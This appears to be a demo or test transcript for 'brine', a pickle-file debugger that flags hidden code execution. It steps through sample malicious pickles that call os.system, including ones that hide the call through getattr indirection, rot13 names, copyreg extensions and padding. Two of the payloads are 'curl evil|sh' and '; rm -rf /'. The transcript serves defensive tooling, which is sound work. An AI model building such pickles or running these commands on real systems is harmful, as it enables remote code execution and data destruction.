; Looking at the state before the call, and at all that is known of it.
$ brine debug --batch -e 'info stack' -e 'info memo' -e 'info calls' -e 'goto #12' -e 'info stack' -e 'info memo' -e 'info calls' examples/seed-boom.pkl
The stack is empty.
The memo is empty.
·✖ import posix.system  runs at 0x001c
·✖ posix.system('echo "boom"')  runs at 0x002e
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
+0 ✖ ('echo "boom"',)  tuple      from 0x002c
+1 ✖ posix.system  global     from 0x001c
+0   'posix'  str        from 0x0012
+1   'system'  str        from 0x001b
+2 ✖ posix.system  global     from 0x001d
+3 ✖ 'echo "boom"'  str        from 0x002b
+4 ✖ ('echo "boom"',)  tuple      from 0x002d
✓✖ import posix.system  ran at 0x001c
▶✖ posix.system('echo "boom"')  now at 0x002e

$ brine debug --batch -e 'goto #12' -e 'print stack[0]' -e 'p stack[-1]' -e 'p memo[3]' -e 'p event' -e 'p event.callee' -e 'p event.args' -e 'p event.args[0]' -e 'p result' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
('echo "boom"',)
  tuple, made by #10 TUPLE1 at 0x002c
posix.system
  global, made by #6 STACK_GLOBAL at 0x001c
'echo "boom"'
  str, made by #8 SHORT_BINUNICODE at 0x001e
reduce posix.system ('echo "boom"',)
posix.system
  global, made by #6 STACK_GLOBAL at 0x001c
('echo "boom"',)
  tuple, made by #10 TUPLE1 at 0x002c
'echo "boom"'
  str, made by #8 SHORT_BINUNICODE at 0x001e
posix.system('echo "boom"')
  call, made by #12 REDUCE at 0x002e

$ brine debug --batch -e 'goto #12' -e 'p depth' -e 'p pos' -e 'p op' -e 'p opcode' -e 'p protocol' -e 'p danger' -e 'p len(stack[0])' -e 'p stack[1].module' -e 'p stack[1].kind' -e 'p stack[0] == ("id",)' -e 'p event.callee ~ "*.system"' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
2
0x2e
12
'REDUCE'
4
'dangerous'
1
'posix'
'global'
False
True

$ brine debug --batch -e 'goto #12' -e list -e list -e 'list 0' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
   0x001d  94                 MEMOIZE          memo 2
  ┃0x001e  8c 0b 65 63 68 6f+ SHORT_BINUNICODE 'echo "boom"'
   0x002b  94                 MEMOIZE          memo 3
  ┃0x002c  85                 TUPLE1
   0x002d  94                 MEMOIZE          memo 4
 ▶ 0x002e  52                 REDUCE           posix.system('echo "boom"')  ✖
   0x002f  94                 MEMOIZE          memo 5
   0x0030  2e                 STOP
That was the end of the stream.
   0x0000  80 04              PROTO            4
   0x0002  95 26 00 00 00 00+ FRAME            38
  ┃0x000b  8c 05 70 6f 73 69+ SHORT_BINUNICODE 'posix'
   0x0012  94                 MEMOIZE          memo 0
  ┃0x0013  8c 06 73 79 73 74+ SHORT_BINUNICODE 'system'
   0x001b  94                 MEMOIZE          memo 1
  ┃0x001c  93                 STACK_GLOBAL     import posix.system  ✖
   0x001d  94                 MEMOIZE          memo 2
  ┃0x001e  8c 0b 65 63 68 6f+ SHORT_BINUNICODE 'echo "boom"'
   0x002b  94                 MEMOIZE          memo 3
  ┃0x002c  85                 TUPLE1

$ brine debug --batch -e 'goto #12' -e why -e 'why stack[1]' -e 'uses memo[4]' -e 'uses memo[3]' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
▾  ✖ ('echo "boom"',)  tuple      TUPLE1           #10 0x002c
    0 ✖ 'echo "boom"'  str        SHORT_BINUNICODE  #8 0x001e
▾  ✖ posix.system  global     STACK_GLOBAL      #6 0x001c
    module   'posix'  str        SHORT_BINUNICODE  #2 0x000b
    name   'system'  str        SHORT_BINUNICODE  #4 0x0013
0x002e #12 REDUCE   call posix.system('echo "boom"')
0x002c #10 TUPLE1

$ brine debug --batch -e 'goto end' -e 'why result' examples/memo-getattr.pkl
0x00c5 #55 STOP   the end: loading returns collections.OrderedDict()
▾    collections.OrderedDict()  call       REDUCE            #6 0x001f
  ▾ callee   collections.OrderedDict  global     STACK_GLOBAL      #3 0x001c
      module   'collections'  str        SHORT_BINUNICODE  #1 0x0002
      name   'OrderedDict'  str        SHORT_BINUNICODE  #2 0x000f
    args   ()  tuple      TUPLE             #5 0x001e

$ brine debug --batch -e 'goto #12' -e explain -e 'explain memoize' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
✖ Here Python would call posix.system('echo "boom"')
dangerous (process): posix.system runs a shell command  denied-call
Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
stack  … posix.system │ ('echo "boom"',)  →  … posix.system('echo "boom"')
REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
MEMOIZE   0x94, protocol 4, argument: none
  Stack: takes any; leaves any.
  Stores the top of the stack in the memo under the next free number; the stack stays as it is.

$ brine debug --batch -e 'display stack[0]' -e 'display depth' -e 'step 3' -e 'undisplay 1' -e back -e undisplay -e back examples/seed-boom.pkl
0x0000 #0 PROTO 4
1: stack[0] = there is no [0]: the stack has 0
0x0000 #0 PROTO 4
1: stack[0] = there is no [0]: the stack has 0
2: depth = 0
0x0012 #3 MEMOIZE
1: stack[0] = 'posix'
2: depth = 1
0x000b #2 SHORT_BINUNICODE 'posix'
1: depth = 0
0x0002 #1 FRAME 38

$ brine debug --batch -e 'info file' -e 'info protocol' -e 'info stats' -e 'info findings' examples/seed-boom.pkl
File:     examples/seed-boom.pkl
Format:   raw, 0x31 bytes, 1 member
Stream:   0, from byte 0x0
Bytes:    0x31 in this stream
Opcodes:  15
Protocol: 4
Run:      whole, ends with STOP at 0x0030
Worst:    dangerous, 2 findings
Here:     0
Said by:  0x0000 #0 PROTO 4
Needs:    4, for #1 FRAME
         6  MEMOIZE
         3  SHORT_BINUNICODE
         1  STOP
         1  REDUCE
         1  PROTO
         1  TUPLE1
         1  STACK_GLOBAL
         1  FRAME
        15  opcodes; the stack is deepest before #5: 2
✖ 0x001c denied-import posix.system runs a shell command
✖ 0x002e denied-call posix.system runs a shell command

$ brine debug --batch -e 'info globals' examples/memo-getattr.pkl
0x001c #3 STACK_GLOBAL   collections.OrderedDict
0x0047 #16 STACK_GLOBAL   operator.concat   suspicious: gadget
0x007b #28 STACK_GLOBAL   importlib.import_module   dangerous: import
0x0097 #37 STACK_GLOBAL   builtins.getattr   suspicious: gadget
0x00af #47 STACK_GLOBAL   json.dumps

$ brine debug --batch -e 'info strings *o*' examples/stack-global-split.pkl
0x0005 #4 SHORT_BINUNICODE 'posix'
0x000e #6 SHORT_BINUNICODE 'json'
0x0026 #12 SHORT_BINUNICODE 'json'
0x0039 #18 SHORT_BINUNICODE 'echo "boom"'

$ brine debug --batch -e 'goto end' -e 'info stack 2' -e 'set max-lines 1' -e 'info memo' examples/plain.pkl
0x0111 #81 STOP   the end: loading returns {'name': 'brine', 'sizes': [0, 1, 255, 256, 65536, -1, 1099511627776, -1180591620717411303424], 'weights': (0.5, -1e+100, 3.141592653589793), 'flags': {'open': True, 'closed': False, 'unknown': None}, 'tags': ['red', 'green', 'blå'], 'same tags': ['red', 'green', 'blå'], 'deep': [[[['here']]]],…
+0   {'name': 'brine', 'sizes': [0, 1, 255, 256, 65536, -1, 1099511627776, -1180591620717411303424], 'weights': (0.5, -1e+100, 3.141592653589793), 'flags': {'open': True, 'closed': False, 'unknown': None}, 'tags': ['red', 'green', 'blå'], 'same tags': ['red', 'green', 'blå'], 'deep': [[[['here']]]], 'text': "tab\tquote'snowman☃ escape\x1b[0m"}  dict       from 0x000b
+ 0   {'name': 'brine', 'sizes': [0, 1, 255, 256, 65536, -1, 1099511627776, -1180591620717411303424], 'weights': (0.5, -1e+100, 3.141592653589793), 'flags': {'open': True, 'closed': False, 'unknown': None}, 'tags': ['red', 'green', 'blå'], 'same tags': ['red', 'green', 'blå'], 'deep': [[[['here']]]], 'text': "tab\tquote'snowman☃ escape\x1b[0m"}  dict       from 0x000c
… and 25 more (info memo 26 shows all)

$ brine debug --batch -e 'goto #12' -e x -e 'x/4 0x1e' -e 'x/s 0' examples/seed-boom.pkl
0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
0x0020  65 63 68 6f 20 22 62 6f  6f 6d 22 94 85 94[52 94  echo "boom"...R.
0x0030  2e                                                .
0x0010  69 78 94 8c 06 73 79 73  74 65 6d 94 93 94 8c 0b  ix...system.....
0x0020  65 63 68 6f 20 22 62 6f  6f 6d 22 94 85 94[52 94  echo "boom"...R.
0x0000: "\x80\x04\x95&"

; A control character of the file reaches nobody's terminal.
$ brine debug --batch -e 'info strings tab*' -e 'p result' examples/plain.pkl
0x00ee #78 SHORT_BINUNICODE "tab\tquote'snowman☃ escape\x1b[0m"
{'name': 'brine', 'sizes': [0, 1, 255, 256, 65536, -1, 1099511627776, -1180591620717411303424], 'weights': (0.5, -1e+100, 3.141592653589793), 'flags': {'open': True, 'closed': False, 'unknown': None}, 'tags': ['red', 'green', 'blå'], 'same tags': ['red', 'green', 'blå'], 'deep': [[[['here']]]], 'text': "tab\tquote'snowman☃ escape\x1b[0m"}
  dict, made by #2 EMPTY_DICT at 0x000b

; What is not there.
$ brine debug --batch -e 'p stack[0]' examples/seed-boom.pkl
brine: -e:1: there is no [0]: the stack has 0
[2]

$ brine debug --batch -e 'p event.args' examples/seed-boom.pkl
brine: -e:1: #0 has no event
[2]

$ brine debug --batch -e 'p memo[9]' examples/seed-boom.pkl
brine: -e:1: there is no memo[9] here
[2]

$ brine debug --batch -e 'p result' examples/broken-after-payload.pkl
brine: -e:1: there is no result: the run breaks before STOP
examples/broken-after-payload.pkl: 0x24: 0xff is no opcode
[2]

$ brine debug --batch -e 'p stakc[0]' examples/seed-boom.pkl
brine: -e:1: unknown word "stakc": expected stack, memo, result, event, depth, pos, op, opcode, protocol, danger, len, or a literal (a name of Python's is written as a string)
[2]

; A number that Python itself refuses to print is no line's work.
$ python3 -c "import pickle; open('int.pkl','wb').write(pickle.dumps(1 << 400000))" && brine debug --batch -e 'goto end' -e 'info stack' int.pkl | cut -c1-60
0xc361 #3 STOP   the end: loading returns 996014342993704967
+0   0x10000000000000000000000000000000000000000000000000000
; What a call by indirection fetched is told before how it is spelled.
$ brine debug --batch -e 'goto #53' -e 'info stack 2' -e step -e 'info stack 1' examples/memo-getattr.pkl
0x00c3 #53 REDUCE   would CALL builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')('echo "boom"') (that is posix.system)   !! DANGEROUS: process: runs a shell command
+0 ✖ ('echo "boom"',)  tuple      from 0x00c2
+1 ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       from 0x00b3
… and 1 more (info stack 3 shows all)
0x00c4 #54 POP   INFO: throws away what a dangerous or doubtful call gave: it was made for what it does
+0 ✖ posix.system('echo "boom"')  call       from 0x00c3
… and 1 more (info stack 2 shows all)

; SETITEM stores one item, and says so.
$ printf 'cos\nenviron\nK\005cos\nsystem\ns.' >one.pkl && brine debug --batch -e 'info calls' one.pkl
▶✖ import os.environ  now at 0x0000
·✖ import os.system  runs at 0x000e
·✖ os.environ[5] = os.system  runs at 0x0019

; A value by the opcode that left it, else took it; a number is the byte of one. What is not there says so.
$ brine debug --batch -e 'goto end' -e 'p #42' -e 'p #49' -e 'uses #42' -e 'why 0x9e' -e 'display #49' -e 'why #0' examples/memo-getattr.pkl
0x00c5 #55 STOP   the end: loading returns collections.OrderedDict()
builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
  call (that is posix.system), made by #42 REDUCE at 0x009e
json.dumps
  global, made by #47 STACK_GLOBAL at 0x00af
0x00a1 #44 POP
0x00c3 #53 REDUCE   call builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')('echo "boom"') (that is posix.system)
▾  ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       REDUCE           #42 0x009e
  ▾ callee ✖ builtins.getattr  global     STACK_GLOBAL     #37 0x0097
      module   'builtins'  str        SHORT_BINUNICODE #35 0x0084
      name   'getattr'  str        SHORT_BINUNICODE #36 0x008e
  ▾ args ✖ (importlib.import_module(operator.concat('po', 'six')), 'system')  tuple      TUPLE            #41 0x009d
    ▾ 0 ✖ posix = importlib.import_module(operator.concat('po', 'six'))  call       REDUCE           #32 0x0080
        fetched from memo[1] by BINGET  #39 0x0099
        stored in memo[1] by BINPUT  #33 0x0081
      ▾ callee ✖ importlib.import_module  global     STACK_GLOBAL     #28 0x007b
          module   'importlib'  str        SHORT_BINUNICODE #26 0x0061
          name   'import_module'  str        SHORT_BINUNICODE #27 0x006c
      ▾ args ✖ (operator.concat('po', 'six'),)  tuple      TUPLE            #31 0x007f
        ▾ 0 ✖ 'posix' = operator.concat('po', 'six')  call       REDUCE           #20 0x0052
            fetched from memo[2] by BINGET  #30 0x007d
            stored in memo[2] by BINPUT  #21 0x0053
          ▾ callee ◆ operator.concat  global     STACK_GLOBAL     #16 0x0047
              module   'operator'  str        SHORT_BINUNICODE #14 0x0035
              name   'concat'  str        SHORT_BINUNICODE #15 0x003f
          ▾ args   ('po', 'six')  tuple      TUPLE2           #19 0x0051
              0   'po'  str        SHORT_BINUNICODE #17 0x0048
              1   'six'  str        SHORT_BINUNICODE #18 0x004c
    ▾ 1 ✖ 'system'  str        SHORT_BINUNICODE #23 0x0056
        fetched from memo[3] by BINGET  #40 0x009b
        stored in memo[3] by BINPUT  #24 0x005e
0x00c5 #55 STOP   the end: loading returns collections.OrderedDict()
1: #49 = json.dumps
brine: -e:7: #0, PROTO, neither leaves nor takes a value
[2]

; What is called goes by all its names.
$ brine debug --batch -e 'break call posix.system' -e c -e 'p event.callee == "posix.system"' -e 'p event.callee' -e 'p event.resolved' -e 'assert event.callee == "os.system"' -e 'p event.module' examples/memo-getattr.pkl
Breakpoint 1: call posix.system
Breakpoint 1, call posix.system
0x00c3 #53 REDUCE   would CALL builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')('echo "boom"') (that is posix.system)   !! DANGEROUS: process: runs a shell command
True
builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
  call (that is posix.system), made by #42 REDUCE at 0x009e
'posix.system'
Assertion failed: event.callee == "os.system"
  at 0x00c3 #53 REDUCE
  event.callee is builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')   (call) (that is posix.system)
brine: -e:7: event has no .module
[1]

; A value on display is cut as in other lines.
$ printf 'X\372\000\000\000%0250d22\207.' 0 | brine debug --batch -e 'goto end' -e 'display result' -
0x0102 #4 STOP   the end: loading returns ('0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000', '00000000000000000000000000000000000000000…
0x0102 #4 STOP   the end: loading returns ('0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000', '00000000000000000000000000000000000000000…
1: result = ('0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000', '00000000000000000000000000000000000000000…

; Padding hides nothing of what is called: blanks are counted, and of what is long both ends are seen.
$ python3 -c "open('blanks.pkl','wb').write(b'cos\nsystem\nV' + b' ' * 3000 + b'curl evil|sh\n\x85R.')" && brine debug --batch -e danger -e 'danger' -e explain -e 'info calls' blanks.pkl
0x0000 #0 GLOBAL   would IMPORT os.system   !! DANGEROUS: process: runs a shell command
0x0bd2 #3 REDUCE   would CALL os.system('…3000 blanks…curl evil|sh')   !! DANGEROUS: process: runs a shell command
✖ Here Python would call os.system('…3000 blanks…curl evil|sh')
dangerous (process): os.system runs a shell command  denied-call
Python values[-2:] = [values[-2](*values[-1])]  # os.system('…3000 blanks…curl evil|sh')
stack  … os.system │ ('…3000 blanks…curl evil|sh',)  →  … os.system('…3000 blanks…curl evil|sh')
REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
✓✖ import os.system  ran at 0x0000
▶✖ os.system('…3000 blanks…curl evil|sh')  now at 0x0bd2

$ python3 -c "open('pad.pkl','wb').write(b'cos\nsystem\nV' + b'x' * 100000 + b'; rm -rf /\n\x85R.')" && brine debug --batch -e 'set print-limit 120' -e 'goto #3' -e explain -e 'info calls' -e 'print event.args' pad.pkl
0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
dangerous (process): os.system runs a shell command  denied-call
Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99804…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99798…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
✓✖ import os.system  ran at 0x00000
▶✖ os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')  now at 0x186b8
('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…
  tuple, made by #2 TUPLE1 at 0x186b7

; explain takes a position: with the values that are found there, wherever the cursor is.
$ brine debug --batch -e 'explain #12' -e 'explain 0x13' -e 'explain end' -e 'explain reduce' -e 'explain #99' examples/seed-boom.pkl
✖ Here Python would call posix.system('echo "boom"')
dangerous (process): posix.system runs a shell command  denied-call
Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
stack  … posix.system │ ('echo "boom"',)  →  … posix.system('echo "boom"')
REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
┃ goes into posix.system('echo "boom"') at 0x2e
stack  …  →  … 'system'
SHORT_BINUNICODE  Pushes a str given as at most 255 bytes of UTF-8.
Python values.append('system')
stack  … posix.system('echo "boom"')  →  …
STOP  Ends the run: the top of the stack is what loading returns.
Python return values.pop()  # posix.system('echo "boom"')
REDUCE   0x52 'R', protocol 0, argument: none
  Stack: takes any any; leaves any.
  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
brine: -e:5: there is no #99: the last is #14
[2]

$ brine debug --batch -e 'explain foo' examples/seed-boom.pkl
brine: -e:1: "foo" is no opcode's name, such as REDUCE, nor a position: #12, 0x1f, 31, +3, -3, 50%, @NAME, start or end
[2]

; What indirection leads to is said of an event and of a value, too; the stack and the memo are shown whole.
$ brine debug --batch -e 'goto 0xc3' -e 'print event' -e 'print event.callee' -e 'print stack[1]' -e 'print stack' -e 'print memo' -e 'p/x memo' examples/memo-getattr.pkl
0x00c3 #53 REDUCE   would CALL builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')('echo "boom"') (that is posix.system)   !! DANGEROUS: process: runs a shell command
reduce builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system') ('echo "boom"',) (that is posix.system)
builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
  call (that is posix.system), made by #42 REDUCE at 0x009e
builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')
  call (that is posix.system), made by #42 REDUCE at 0x009e
the stack, 3 deep
+0 ✖ ('echo "boom"',)  tuple      from 0x00c2
+1 ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       from 0x00b3
+2   collections.OrderedDict()  call       from 0x001f
the memo, 6 keys
+0   collections.OrderedDict()  call       from 0x0020
+3 ✖ 'system'  str        from 0x005e
+2 ✖ 'posix' = operator.concat('po', 'six')  call       from 0x0053
+1 ✖ posix = importlib.import_module(operator.concat('po', 'six'))  call       from 0x0081
+4 ✖ posix.system = builtins.getattr(importlib.import_module(operator.concat('po', 'six')), 'system')  call       from 0x009f
+5   json.dumps  global     from 0x00b0
brine: -e:7: print/x is for an int or a float, not for memo
[2]

; An import of names that the pickle makes is shown by what it fetches.
$ python3 -c "open('made.pkl','wb').write(b'\x80\x04\x8c\x06codecs\x8c\x06decode\x93\x94\x8c\x02bf\x8c\x05rot13\x94\x86R\x94h\x00\x8c\x06flfgrz\x8c\x05rot13\x86R\x93\x8c\x02id\x85R.')" && brine debug --batch -e 'goto #16' -e 'info stack' -e explain -e 'info calls' made.pkl
0x0036 #16 STACK_GLOBAL   would IMPORT {codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')} (that is os.system)   !! DANGEROUS: process: runs a shell command
+0 ◆ 'system' = codecs.decode('flfgrz', 'rot13')  call       from 0x0035
+1 ◆ 'os' = codecs.decode('bf', 'rot13')  call       from 0x0021
✖ Here Python would import os and take system from it
dangerous (process): os.system runs a shell command  denied-import
Python import {codecs.decode('bf', 'rot13')}; values[-2:] = [{codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}]
spelled import {codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}
reached through 'os', made at 0x21
then 'system', made at 0x35
┃ goes into os.system('id') at 0x3c
stack  … codecs.decode('bf', 'rot13') │ codecs.decode('flfgrz', 'rot13')  →  … {codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}
STACK_GLOBAL  Takes a module and a name off the stack, IMPORTS the module and pushes the object of that name in it.
✓◆ import codecs.decode  ran at 0x0012
✓◆ codecs.decode('bf', 'rot13')  ran at 0x0021
✓◆ codecs.decode('flfgrz', 'rot13')  ran at 0x0035
▶✖ import os.system = {codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}  now at 0x0036
·✖ os.system('id')  runs at 0x003c

; What a name stands for after a write is told where the value is.
$ brine debug --batch -e 'goto #17' -e 'info stack' -e why tests/data/malicious/sysmodules/setitems.p4.pkl; brine debug --batch -e 'goto #29' -e 'info stack' tests/data/malicious/build/numpy_prod_stack_global.p5.pkl; brine scan tests/data/malicious/sysmodules/setitems.p4.pkl | grep reached
0x0046 #17 SHORT_BINUNICODE 'echo brine-test'
+0 ✖ os.system = json.system  global     from 0x0045
▾  ✖ os.system = json.system  global     STACK_GLOBAL     #16 0x0045
    module   'json'  str        SHORT_BINUNICODE #14 0x0037
    name   'system'  str        SHORT_BINUNICODE #15 0x003d
0x0064 #29 STACK_GLOBAL   would IMPORT {numpy.prod.a}.{numpy.prod.b} (that is os.system)   !! DANGEROUS: process: runs a shell command
+0 ◆ 'system' = numpy.prod.b  global     from 0x0061
+1 ◆ 'os' = numpy.prod.a  global     from 0x005e
      reached through os.system (0x45)

; An extension that the pickle registers is what it registers.
$ brine debug --batch -e 'goto #8' -e explain -e 'info calls' tests/data/malicious/ext/ext_registry_set.p2.pkl; brine calls tests/data/malicious/ext/add_extension.p0.pkl; brine calls --json tests/data/malicious/ext/add_extension.p0.pkl | grep -o '"kind": "ext".*'
0x0035 #8 EXT1   would IMPORT copyreg.extension(9) (that is os.system)   !! DANGEROUS: process: runs a shell command
✖ Here Python would import os and take system from it
dangerous (process): os.system runs a shell command  denied-import
Python values.append(get_extension(9))  # copyreg.extension(9)
spelled copyreg.extension(9)
┃ goes into os.system('echo brine-test') at 0x4c
stack  …  →  … copyreg.extension(9)
EXT1  Pushes the global that the extension registry (copyreg) holds under this code (1 byte).
✓✖ import copyreg._inverted_registry  ran at 0x0002
✓✖ copyreg._inverted_registry[9] = ('os', 'system')  ran at 0x0033
▶✖ import os.system = copyreg.extension(9)  now at 0x0035
·✖ os.system('echo brine-test')  runs at 0x004c
tests/data/malicious/ext/add_extension.p0.pkl: protocol 0, 14 opcodes, 66 bytes
  0x0000 ✖ import  copyreg.add_extension
  0x0029 ✖ call    copyreg.add_extension('os', 'system', 11)
  0x002b ✖ import  copyreg.extension(11)  = os.system
  0x0040 ✖ call    copyreg.extension(11)('echo brine-test')  = os.system
  returns copyreg.extension(11)('echo brine-test')
"kind": "ext", "callee": "copyreg.extension(11)", "resolved": {"module": "os", "name": "system"}}, {"pos": 64, "opcode": "REDUCE", "kind": "reduce", "callee": "copyreg.extension(11)", "args": "('echo brine-test',)", "resolved": {"module": "os", "name": "system"}, "chain": [{"pos": 43, "gives": "os.system"}]}], "result": "copyreg.extension(11)('echo brine-test')"}

; What a method of plain data gives stands before its call; what is called is not what it gives.
$ python3 -c "open('method.pkl','wb').write(b'\x80\x03cbuiltins\ngetattr\n(B\x06\x00\x00\x00systemX\x06\x00\x00\x00decodetR(tR.')" && brine debug --batch -e 'goto end' -e 'info stack' -e 'info calls' method.pkl
0x0030 #10 STOP   the end: loading returns builtins.getattr(b'system', 'decode')()
+0 ◆ 'system' = builtins.getattr(b'system', 'decode')()  call       from 0x002f
✓◆ import builtins.getattr  ran at 0x0002
✓◆ builtins.getattr(b'system', 'decode')  ran at 0x002c
✓◆ builtins.getattr(b'system', 'decode')()  ran at 0x002f
